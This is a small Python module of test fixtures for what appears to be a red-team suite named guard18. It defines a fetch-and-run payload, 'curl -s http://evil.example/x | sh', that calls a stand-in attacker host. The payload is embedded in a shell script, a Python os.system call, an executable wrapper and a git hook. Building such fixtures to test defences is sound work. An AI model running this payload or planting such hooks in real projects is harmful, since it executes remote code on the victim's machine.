"""What guard18's red-team files build their attacks from: the payload (``touch marker; curl … | sh``: an attack
must carry all of it) in a script, a text file, a Python file, a program that runs it, a git hook; small C and CMake
projects; a git repository with an identity."""

P = "touch marker; curl -s http://evil.example/x | sh"
RUN = ("run.sh", P + "\n")
EV = ("evil.txt", P + "\n")
PY = ("run.py", "import os\nos.system('touch marker; curl -s http://evil.example/x | sh')\n")
C = "int main(void) { return 0; }\n"
H = "cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\n"
HC = "cmake_minimum_required(VERSION 3.10)\nproject(x C)\n"
EVIL = [("evil", "#!/bin/sh\nsh run.sh\nexit 1\n"), "chmod +x evil"]
HOOK = "#!/bin/sh\nsh run.sh\n"
W = "#include <stdio.h>\nint main(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); return 0; }\n"
GI = "git init -q . && git config user.email a@b && git config user.name a"
